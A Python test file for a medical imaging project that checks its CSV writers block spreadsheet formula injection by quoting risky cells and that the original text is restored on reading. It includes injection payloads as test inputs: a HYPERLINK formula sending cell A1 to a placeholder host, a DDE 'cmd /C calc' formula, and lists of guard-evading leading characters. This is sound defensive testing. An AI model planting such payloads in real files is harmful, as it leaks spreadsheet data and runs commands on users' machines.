"""Test CSV files: no cell is calculated by a spreadsheet, and reading returns what was written."""

from __future__ import annotations

import csv
import io
import itertools
import math
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from synboost_monai.csv_files import csv_text, frame_text, guarded, read_frame, unguarded

ATTACK = 'HYPERLINK("http://x?"&A1)'
STARTS = [
    "=",
    "+",
    "-",
    "@",
    " =",
    '"=',
    "'=",
    "\" '+",
    "\ufeff=",
    "\u00a0@",
    "\u200b-",
    "\uff1d",
    "\t",
    "\r",
    "\n",
    "\t=",
    "\0=",
]


def cells_of(text: str, delimiter: str) -> list[str]:
    """Return all cells as a program reads them that does not know of quotes within a line."""
    return [cell for line in text.splitlines() for cell in line.split(delimiter)]


@pytest.mark.parametrize("start", STARTS)
def test_text_that_would_be_calculated_gets_an_apostrophe(start: str) -> None:
    text = start + ATTACK
    assert guarded(text).startswith("'") and guarded(text).replace("'", "") == text.replace("'", "")
    assert unguarded(guarded(text)) == text
    assert guarded(f"a{start.strip() or '='}{ATTACK}") == f"a{start.strip() or '='}{ATTACK}"


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_cells_of_another_separator_are_safe_too(delimiter: str) -> None:
    text = csv_text([["case", "dice"], [f"a{delimiter}=1+1", "0.5"], [f'b{delimiter} "@SUM(A1)', "-1"]])
    for cell in cells_of(text, delimiter):
        assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("number", ["-5", "+3.25", "-1e-05", ".5", "-.5E3", "-inf", "nan", "0012"])
def test_numbers_stay(number: str) -> None:
    assert guarded(number) == number == unguarded(number)


def test_every_text_comes_back() -> None:
    for letters in itertools.product("'=a;\t -\n\"", repeat=5):
        text = "".join(letters)
        assert unguarded(guarded(text)) == text, repr(text)
        assert guarded(text)[0] not in "=-\t\n" or text.strip("-").isdigit()


def test_table_comes_back_and_plain_cells_keep_their_bytes(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "=case": ["=cmd|' /C calc'!A0", "patient0001", "-5", None],
            "dice": [0.5, -1.25, math.nan, 1.0],
            "count": [1, -2, 3, 4],
            "mixed": [0.123456789, "+x", None, True],
        }
    )
    text = frame_text(frame, float_format="%.6f")
    first, *lines = list(csv.reader(io.StringIO(text)))
    assert first == ["'=case", "dice", "count", "mixed"]
    assert [line[0] for line in lines] == ["'=cmd|' /C calc'!A0", "patient0001", "-5", ""]
    assert [line[1] for line in lines] == ["0.500000", "-1.250000", "", "1.000000"]
    (tmp_path / "a.csv").write_text(text)
    back = read_frame(tmp_path / "a.csv", dtype={"'=case": str})
    assert list(back.columns) == list(frame.columns) and list(back["=case"])[:3] == list(frame["=case"])[:3]
    assert back["mixed"][1] == "+x" and frame["=case"][0].startswith("=")  # the table that was given is not changed

    plain = pd.DataFrame(
        {"case": ["a", None], "x": [0.1234567891, 2.0], "o": pd.Series([0.12345678912, 1], dtype=object)}
    )
    assert frame_text(plain, float_format="%.6g") == plain.to_csv(index=False, float_format="%.6g", lineterminator="\n")
    assert frame_text(plain[:0]) == "case,x,o\n"


def test_case_names_of_metrics_are_text_to_a_spreadsheet_and_the_same_to_us(tmp_path: Path) -> None:
    from synboost_monai.evaluation.per_case import read_metrics, write_metrics_csv
    from synboost_monai.structures import STRUCTURES

    rows: list[dict[str, Any]] = [
        {"case": case, "patient": "+49", "view": "@v", "structure": STRUCTURES[0].name, "dice": 0.5, "note": "\t-x"}
        for case in ("=1+1", "-2", "plain")
    ]
    path = write_metrics_csv(tmp_path / "metrics.csv", rows)
    with path.open(newline="") as file:
        written = list(csv.DictReader(file))
    assert sorted(row["case"] for row in written) == ["'=1+1", "-2", "plain"]
    assert {(row["patient"], row["view"], row["note"]) for row in written} == {("+49", "'@v", "'\t'-x")}
    frame = read_metrics(path)
    assert sorted(frame["case"]) == ["-2", "=1+1", "plain"] and set(frame["view"]) == {"@v"}


def test_study_tables_and_history_pass_the_same_place(tmp_path: Path) -> None:
    from types import SimpleNamespace

    from synboost_monai.pages.tables import Table, write_table
    from synboost_monai.training.history import WriteHistory

    table = Table("t", "T", pd.DataFrame({"@model": ["=1", "-0.5"], "gain": [-0.5, 0.25]}))
    path = next(p for p in write_table(table, tmp_path) if p.suffix == ".csv")
    assert path.read_text() == "'@model,gain\n'=1,-0.5\n-0.5,0.25\n"
    metrics: Any = SimpleNamespace(state=SimpleNamespace(metrics={"=loss": 0.5}))
    history = WriteHistory(tmp_path / "history.csv", metrics)
    history._note(metrics, SimpleNamespace(state=SimpleNamespace(iteration=3, epoch=1)))  # type: ignore[arg-type]
    assert (tmp_path / "history.csv").read_text() == "iteration,epoch,'=loss\n3,1,0.5\n"
